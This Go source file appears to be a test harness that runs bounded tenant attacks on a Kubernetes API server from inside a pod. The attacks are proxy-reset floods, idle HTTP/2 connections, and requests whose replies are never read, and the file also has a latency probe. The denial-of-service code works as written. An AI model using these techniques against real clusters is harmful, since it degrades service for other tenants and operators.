package main

import (
	"bufio"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"k8s.io/client-go/rest"
)

// The tenant attacks of the real node's scenario, run from a pod with the
// pod's own ServiceAccount. Each is bounded by its duration and count and
// prints one RESULT line.
//
//	podclient resetserver   serve on --port: answer every request with
//	                        headers that promise a body, then close (the
//	                        proxied pod of the proxy-reset attack)
//	podclient attack --mode proxyreset|idleconns|unread
//	podclient latency       read --path --count times; print LATENCY

// apiAddr is the API server address of the in-cluster config, host:port.
func apiAddr() string {
	return net.JoinHostPort(os.Getenv("KUBERNETES_SERVICE_HOST"), os.Getenv("KUBERNETES_SERVICE_PORT"))
}

// resetServer answers each request on port with a status line and headers
// announcing a body it never sends, then closes the connection:
// kube-apiserver's proxy then fails before its first byte and resets the
// client's stream.
func resetServer(ctx context.Context, port int) error {
	ln, err := net.Listen("tcp", fmt.Sprintf(":%d", port))
	if err != nil {
		return err
	}
	go func() { <-ctx.Done(); ln.Close() }()
	fmt.Println("READY")
	var served atomic.Int64
	for {
		c, err := ln.Accept()
		if err != nil {
			if ctx.Err() != nil {
				fmt.Printf("RESULT served=%d\n", served.Load())
				return nil
			}
			return err
		}
		go func() {
			defer c.Close()
			_ = c.SetDeadline(time.Now().Add(5 * time.Second))
			r := bufio.NewReader(c)
			if _, err := http.ReadRequest(r); err != nil {
				return
			}
			served.Add(1)
			_, _ = c.Write([]byte("HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 4096\r\n\r\n"))
		}()
	}
}

// apiDialer returns a dialer of TLS connections to the API address, as
// the in-cluster config trusts it, offering only proto by ALPN.
func apiDialer(cfg *rest.Config, proto string) (*tls.Dialer, error) {
	tc, err := rest.TLSConfigFor(cfg)
	if err != nil {
		return nil, err
	}
	tc = tc.Clone()
	tc.NextProtos = []string{proto}
	return &tls.Dialer{NetDialer: &net.Dialer{Timeout: 5 * time.Second}, Config: tc}, nil
}

// attackOptions are the flags of podclient attack.
type attackOptions struct {
	mode        string
	duration    time.Duration
	count       int
	concurrency int
	path        string
}

func attack(ctx context.Context, cfg *rest.Config, o attackOptions) error {
	ctx, cancel := context.WithTimeout(ctx, o.duration)
	defer cancel()
	switch o.mode {
	case "proxyreset":
		return proxyResets(ctx, cfg, o)
	case "idleconns":
		return idleConns(ctx, cfg, o)
	case "unread":
		return unreadAnswers(ctx, cfg, o)
	}
	return fmt.Errorf("unknown attack mode %q (want proxyreset, idleconns or unread)", o.mode)
}

// proxyResets GETs o.path (a pods/proxy path to a resetServer) with
// o.concurrency workers until the duration ends, and counts the outcomes.
func proxyResets(ctx context.Context, cfg *rest.Config, o attackOptions) error {
	rt, err := rest.TransportFor(cfg)
	if err != nil {
		return err
	}
	hc := &http.Client{Transport: rt, Timeout: 5 * time.Second}
	var mu sync.Mutex
	outcomes := map[string]int{}
	var wg sync.WaitGroup
	for range max(o.concurrency, 1) {
		wg.Go(func() {
			for ctx.Err() == nil {
				req, _ := http.NewRequestWithContext(ctx, http.MethodGet, cfg.Host+o.path, nil)
				resp, err := hc.Do(req)
				key := ""
				switch {
				case err != nil && ctx.Err() != nil:
					return
				case err != nil:
					key = "error"
				default:
					n, rerr := ioDiscard(resp)
					key = fmt.Sprintf("%d", resp.StatusCode)
					if rerr != nil {
						key += "-broken"
					} else if n == 0 {
						key += "-empty"
					}
				}
				mu.Lock()
				outcomes[key]++
				mu.Unlock()
			}
		})
	}
	wg.Wait()
	total := 0
	for _, n := range outcomes {
		total += n
	}
	fmt.Printf("RESULT sent=%d outcomes=%v\n", total, outcomes)
	return nil
}

// idleConns opens o.count TLS connections to the API address, sends the
// HTTP/2 client preface and an empty SETTINGS frame on each, then nothing,
// and holds them until the duration ends. It counts the connections the
// server closed before then.
func idleConns(ctx context.Context, cfg *rest.Config, o attackOptions) error {
	d, err := apiDialer(cfg, "h2")
	if err != nil {
		return err
	}
	var opened, refused, closedEarly atomic.Int64
	var wg sync.WaitGroup
	sem := make(chan struct{}, max(o.concurrency, 1))
	start := time.Now()
	for range o.count {
		if ctx.Err() != nil {
			break
		}
		sem <- struct{}{}
		wg.Go(func() {
			dctx, cancel := context.WithTimeout(ctx, 10*time.Second)
			c, err := d.DialContext(dctx, "tcp", apiAddr())
			cancel()
			if err == nil {
				// The preface and an empty SETTINGS frame.
				_, err = c.Write([]byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00"))
			}
			<-sem
			if err != nil {
				refused.Add(1)
				if c != nil {
					c.Close()
				}
				return
			}
			opened.Add(1)
			defer c.Close()
			// Read what the server sends (its SETTINGS) until it closes the
			// connection or the attack ends.
			go func() { <-ctx.Done(); c.Close() }()
			buf := make([]byte, 4096)
			for {
				if _, err := c.Read(buf); err != nil {
					if ctx.Err() == nil {
						closedEarly.Add(1)
					}
					return
				}
			}
		})
	}
	openedIn := time.Since(start)
	fmt.Printf("OPENED %d refused=%d in %s\n", opened.Load(), refused.Load(), openedIn.Round(time.Millisecond))
	wg.Wait()
	fmt.Printf("RESULT opened=%d refused=%d closedByServer=%d\n", opened.Load(), refused.Load(), closedEarly.Load())
	return nil
}

// unreadAnswers sends o.count GETs of o.path, each on its own HTTP/1.1
// connection with the pod's token, and never reads the answers; it holds
// the connections until the duration ends.
func unreadAnswers(ctx context.Context, cfg *rest.Config, o attackOptions) error {
	d, err := apiDialer(cfg, "http/1.1")
	if err != nil {
		return err
	}
	token := cfg.BearerToken
	if cfg.BearerTokenFile != "" {
		b, err := os.ReadFile(cfg.BearerTokenFile)
		if err != nil {
			return err
		}
		token = strings.TrimSpace(string(b))
	}
	req := fmt.Sprintf("GET %s HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\nAccept: application/json\r\n\r\n", o.path, apiAddr(), token)
	var sent, failed atomic.Int64
	var conns []net.Conn
	var mu sync.Mutex
	var wg sync.WaitGroup
	sem := make(chan struct{}, max(o.concurrency, 1))
	for range o.count {
		sem <- struct{}{}
		wg.Go(func() {
			defer func() { <-sem }()
			dctx, cancel := context.WithTimeout(ctx, 10*time.Second)
			defer cancel()
			c, err := d.DialContext(dctx, "tcp", apiAddr())
			if err == nil {
				// A receive buffer as small as the kernel allows, so the
				// answer backs up into the server at once.
				if tcp, ok := c.(*tls.Conn).NetConn().(*net.TCPConn); ok {
					_ = tcp.SetReadBuffer(4096)
				}
				_, err = c.Write([]byte(req))
			}
			if err != nil {
				failed.Add(1)
				if c != nil {
					c.Close()
				}
				return
			}
			sent.Add(1)
			mu.Lock()
			conns = append(conns, c)
			mu.Unlock()
		})
	}
	wg.Wait()
	fmt.Printf("SENT %d failed=%d\n", sent.Load(), failed.Load())
	<-ctx.Done()
	for _, c := range conns {
		c.Close()
	}
	fmt.Printf("RESULT sent=%d failed=%d\n", sent.Load(), failed.Load())
	return nil
}

// latency GETs path count times, one after another, and prints the p50,
// p99, the answers by code and the errors.
func latency(ctx context.Context, cfg *rest.Config, path string, count int) error {
	rt, err := rest.TransportFor(cfg)
	if err != nil {
		return err
	}
	hc := &http.Client{Transport: rt, Timeout: 10 * time.Second}
	codes := map[int]int{}
	errs := 0
	lat := make([]time.Duration, 0, count)
	for range count {
		req, _ := http.NewRequestWithContext(ctx, http.MethodGet, cfg.Host+path, nil)
		start := time.Now()
		resp, err := hc.Do(req)
		if err != nil {
			if ctx.Err() != nil {
				return ctx.Err()
			}
			errs++
			continue
		}
		_, _ = ioDiscard(resp)
		lat = append(lat, time.Since(start))
		codes[resp.StatusCode]++
	}
	if len(lat) == 0 {
		return errors.New("no read answered")
	}
	slices.Sort(lat)
	fmt.Printf("LATENCY p50=%dus p99=%dus codes=%v errors=%d\n",
		lat[len(lat)/2].Microseconds(), lat[len(lat)*99/100].Microseconds(), codes, errs)
	return nil
}

// ioDiscard reads resp's body to its end and closes it.
func ioDiscard(resp *http.Response) (int64, error) {
	defer resp.Body.Close()
	return io.Copy(io.Discard, resp.Body)
}
